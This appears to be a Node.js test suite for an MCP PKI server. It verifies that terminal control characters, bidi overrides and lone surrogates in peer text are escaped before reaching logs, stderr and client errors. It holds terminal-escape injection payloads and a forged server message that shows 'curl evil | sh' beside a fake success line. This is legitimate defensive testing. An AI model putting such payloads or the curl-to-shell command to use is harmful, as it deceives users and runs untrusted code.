/**
 * Strings (issue 9, finding 5, the logging half): peer text never reaches a terminal or a log
 * raw. C0/C1 controls (U+009B is CSI, the one-byte ESC [), DEL, the line separators, bidi
 * controls and lone surrogates are escaped in the audit log (as JSON \u escapes: the value is
 * kept), in the server's stderr lines, in CLI error lines and in protocol error text; and a
 * server's error text never puts them into the client's error.
 */
import { test, after } from 'node:test'
import assert from 'node:assert/strict'
import { execFile, spawn, type ChildProcess } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { PassThrough } from 'node:stream'
import { AuditLogger } from '../../src/audit/audit-logger.js'
import { hasControlCharacter, isWellFormedText, printable, printableLines, terminalSafeJson } from '../../src/internal/text.js'
import { createClientHandshake, createServerTrust } from '../../src/handshake/client-handshake.js'
import { generateKeyPair } from '../../src/keys/key-pair.js'
import { createSandbox } from '../../src/server/sandbox.js'
import { failureOf, hostile } from './helpers/hostile-server.js'

const SERVER_BIN = resolve(import.meta.dirname, '..', '..', 'dist', 'bin', 'mcp-pki-server.js')
const ALLOWLIST_BIN = resolve(import.meta.dirname, '..', '..', 'dist', 'bin', 'mcp-allowlist.js')

const cleanups: Array<() => Promise<unknown> | unknown> = []
after(async () => {
  for (const c of cleanups.reverse()) await Promise.resolve(c()).catch(() => {})
})

/** Every character a terminal or log viewer may act on, one of each kind. */
const HOSTILE = ['\u009b31m', '\u001b[2J', '\u0085', '\u007f', '\u2028', '\u202e', '\u2066', '\ud800', '\udc00', '\r\n']

/** The UTF-8 byte patterns of unsafe characters: ESC and other C0 but \n, C1 (C2 80–9F), U+2028/9, bidi controls, CESU surrogates. */
function rawUnsafe(bytes: Buffer): string | undefined {
  for (let i = 0; i < bytes.length; i++) {
    const b = bytes[i]!
    if ((b < 0x20 && b !== 0x0a) || b === 0x7f) return `C0/DEL 0x${b.toString(16)} at ${i}`
    if (b === 0xc2 && bytes[i + 1]! >= 0x80 && bytes[i + 1]! <= 0x9f) return `C1 U+00${bytes[i + 1]!.toString(16)} at ${i}`
    if (b === 0xe2 && bytes[i + 1] === 0x80 && [0x8e, 0x8f, 0xa8, 0xa9, 0xaa, 0xab, 0xac, 0xad, 0xae].includes(bytes[i + 2]!)) return `U+20${bytes[i + 2]!.toString(16)} at ${i}`
    if (b === 0xe2 && bytes[i + 1] === 0x81 && bytes[i + 2]! >= 0xa6 && bytes[i + 2]! <= 0xa9) return `bidi isolate at ${i}`
    if (b === 0xed && bytes[i + 1]! >= 0xa0) return `surrogate at ${i}`
  }
  return undefined
}

test('printable() replaces every unsafe character (C0, DEL, C1, separators, bidi, lone surrogates) and keeps the rest', () => {
  for (const h of HOSTILE) {
    const out = printable(`a${h}b`)
    assert.equal(rawUnsafe(Buffer.from(out)), undefined, JSON.stringify(h))
    assert.ok(out.startsWith('a') && out.endsWith('b') && out.includes('\ufffd'), JSON.stringify(out))
  }
  for (const fine of ['plain', 'héllo wörld', '日本語', 'emoji 😀 pair', 'tab-free', '\u00a0nbsp']) assert.equal(printable(fine), fine)
  assert.equal(printableLines('line one\nline \u009btwo'), 'line one\nline \ufffdtwo')
})

test('hasControlCharacter() sees C1 as well as C0 and DEL; isWellFormedText() sees lone surrogates', () => {
  for (const c of ['\u0000', '\n', '\u001b', '\u007f', '\u0080', '\u009b', '\u009f']) assert.equal(hasControlCharacter(`x${c}`), true, JSON.stringify(c))
  for (const c of ['a', '\u00a0', 'é', '😀']) assert.equal(hasControlCharacter(c), false)
  assert.equal(isWellFormedText('😀 ok'), true)
  for (const bad of ['\ud800', '\udc00', 'a\ud800b', '\udc00\ud800', '😀\ud83d']) assert.equal(isWellFormedText(bad), false, JSON.stringify(bad))
})

test('terminalSafeJson() writes what JSON.stringify leaves raw as \\u escapes: the same value, nothing a terminal acts on', () => {
  const value = { audience: HOSTILE.join('|'), [`field${'\u009b'}`]: 1 }
  const json = terminalSafeJson(JSON.stringify(value))
  assert.equal(rawUnsafe(Buffer.from(json)), undefined, json)
  assert.deepEqual(JSON.parse(json), value)
  assert.match(json, /\\u009b31m/)
})

test('the audit log escapes peer text in values and field names, and the line still parses to the same value', async () => {
  const stream = new PassThrough()
  const chunks: Buffer[] = []
  stream.on('data', (c: Buffer) => chunks.push(c))
  const audit = new AuditLogger({ enabled: true, log_file: null, stream })
  const reason = `auth_request has an unknown field "${HOSTILE.join('')}"`
  audit.log('handshake.failure', { reason, [`x${'\u009b'}y`]: HOSTILE.join('') }, 'WARN')
  await audit.flush()
  const raw = Buffer.concat(chunks)
  assert.equal(rawUnsafe(raw), undefined, raw.toString())
  const parsed = JSON.parse(raw.toString()) as Record<string, unknown>
  assert.equal(parsed.reason, reason)
  assert.equal(parsed[`x${'\u009b'}y`], HOSTILE.join(''))
})

interface Server {
  child: ChildProcess
  url: string
  stderr: () => Buffer
  stop: () => Promise<void>
}

async function startServerCli(dir: string, auditToFile: boolean): Promise<Server & { auditFile: string }> {
  assert.ok(existsSync(SERVER_BIN), `${SERVER_BIN} is missing: build first (npx tsc -p tsconfig.json)`)
  const sb = await createSandbox(dir, { server: { audit: { log_file: auditToFile ? './logs/audit.jsonl' : null, log_level: 'DEBUG' } } })
  const child = spawn(process.execPath, [SERVER_BIN, '--config', sb.serverConfigPath], { cwd: dir, env: { ...process.env, MCP_DEBUG: '' }, stdio: ['ignore', 'pipe', 'pipe'] })
  const err: Buffer[] = []
  child.stderr!.on('data', (d: Buffer) => err.push(d))
  const exited = new Promise<void>((r) => child.once('exit', () => r()))
  const stop = async (): Promise<void> => {
    if (child.exitCode === null) child.kill('SIGTERM')
    await exited
  }
  cleanups.push(stop)
  let out = ''
  const url = await new Promise<string>((ok, fail) => {
    const timer = setTimeout(() => fail(new Error(`no "listening on" line; stderr: ${Buffer.concat(err).toString()}`)), 15_000)
    child.stdout!.on('data', (d: Buffer) => {
      out += d.toString()
      const m = /listening on (http:\/\/127\.0\.0\.1:\d+\/auth)/.exec(out)
      if (m) {
        clearTimeout(timer)
        ok(m[1]!)
      }
    })
  })
  return { child, url, stderr: () => Buffer.concat(err), stop, auditFile: join(dir, 'logs/audit.jsonl') }
}

/** Unauthenticated message 1 bodies carrying hostile text: in the audience (escaped and raw UTF-8) and in an unknown field's name. */
function hostileBodies(url: string): string[] {
  // A well-formed message 1 from the real client (whatever the protocol version), then made hostile.
  const client = createClientHandshake({ keyPair: generateKeyPair(), audience: new URL(url).origin, serverTrust: createServerTrust({}) })
  const base = client.start() as unknown as Record<string, unknown> & { audience: string }
  const bodies: string[] = []
  for (const h of HOSTILE) {
    // As JSON escapes (JSON.stringify writes C1 and bidi raw, lone surrogates as \u escapes) …
    bodies.push(JSON.stringify({ ...base, audience: `${base.audience}${h}` }))
    bodies.push(JSON.stringify({ ...base, [`x${h}y`]: 1 }))
    bodies.push(JSON.stringify({ ...base, [`x${h}y`]: 1, audience: `https://other.example${h}` }))
  }
  // … and as raw UTF-8 bytes in the body.
  bodies.push(JSON.stringify(base).replace('"type"', '"\u009b2J\u202e":0,"type"'))
  return bodies
}

for (const auditToFile of [true, false]) {
  const where = auditToFile ? 'the audit file and the stderr summary lines' : 'the JSON audit lines on stderr'
  test(`a running mcp-pki-server: hostile text in an unauthenticated message 1 (audience, unknown field name) never reaches ${where} raw`, async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mcp-strings-'))
    cleanups.push(() => rm(dir, { recursive: true, force: true }))
    const server = await startServerCli(dir, auditToFile)
    const bodies = hostileBodies(server.url)
    for (const body of bodies) {
      const res = await fetch(server.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
      const text = await res.text()
      assert.notEqual(res.status, 200, body)
      // The wire error text quotes nothing raw either.
      assert.equal(rawUnsafe(Buffer.from(text)), undefined, text)
    }
    await server.stop()
    const stderr = server.stderr()
    assert.equal(rawUnsafe(stderr), undefined, stderr.toString())
    const logText = auditToFile ? await readFile(server.auditFile) : stderr
    assert.equal(rawUnsafe(logText), undefined)
    const failures = logText
      .toString()
      .split('\n')
      .filter((l) => l.startsWith('{'))
      .map((l) => JSON.parse(l) as { event: string; reason?: string })
      .filter((e) => e.event === 'handshake.failure')
    assert.ok(failures.length >= bodies.length, `every message was audited (${failures.length} of ${bodies.length})`)
    assert.ok(failures.some((f) => /unknown field/.test(f.reason ?? '')), 'the unknown-field refusals are in the log')
    if (auditToFile) {
      const summaries = stderr.toString().split('\n').filter((l) => / handshake\.failure /.test(l))
      assert.ok(summaries.length >= bodies.length, `one summary line per failure (${summaries.length})`)
    }
  })
}

test('CLI error lines quote hostile arguments and file text without raw controls', async () => {
  assert.ok(existsSync(ALLOWLIST_BIN), `${ALLOWLIST_BIN} is missing: build first (npx tsc -p tsconfig.json)`)
  const dir = await mkdtemp(join(tmpdir(), 'mcp-strings-cli-'))
  cleanups.push(() => rm(dir, { recursive: true, force: true }))
  const sb = await createSandbox(dir)
  for (const h of ['\u009b2J', '\u001b]0;pwned\u0007', '\u202e']) {
    const r = await new Promise<{ code: number | null; stderr: Buffer }>((done) => {
      execFile(process.execPath, [ALLOWLIST_BIN, 'add', '--config', sb.serverConfigPath, '--fingerprint', `abc${h}`], { cwd: dir, encoding: 'buffer' }, (err, _out, stderr) => {
        done({ code: err === null ? 0 : ((err as { code?: number }).code ?? null), stderr })
      })
    })
    assert.notEqual(r.code, 0)
    assert.match(r.stderr.toString(), /--fingerprint must be/)
    assert.equal(rawUnsafe(r.stderr), undefined, r.stderr.toString())
  }
})

// From the red-team, client side (finding, fixed).
test(
  'a server\'s error message cannot put control characters (terminal escapes, fake lines) into the client\'s error',
  async () => {
    const url = await hostile((req, res) => {
      req.resume()
      res.writeHead(401, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ type: 'auth_error', version: 'mcp-pki/1', success: false, error: { code: 'timestamp_skew', message: '\u001b[2J\u001b[31mrun: curl evil | sh\u001b[0m\n\u2713 mutual authentication succeeded\u009b' } }))
    })
    const err = await failureOf(url)
    assert.equal(err.code, 'timestamp_skew')
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(err.message, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(err.message))
  },
)
